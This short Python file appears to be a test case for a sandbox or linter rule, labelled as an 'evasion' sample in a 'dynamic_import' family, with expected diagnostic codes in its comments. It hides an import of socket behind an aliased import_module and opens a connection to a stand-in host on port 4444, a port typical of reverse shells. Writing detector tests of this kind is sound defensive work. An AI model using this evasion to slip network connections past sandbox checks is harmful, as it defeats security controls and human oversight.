# label: evasion
# family: dynamic_import
from importlib import import_module as load_plugin  # want: SBX100

plugin = load_plugin("socket")  # want: SBX103
plugin.socket().connect(("198.51.100.8", 4444))
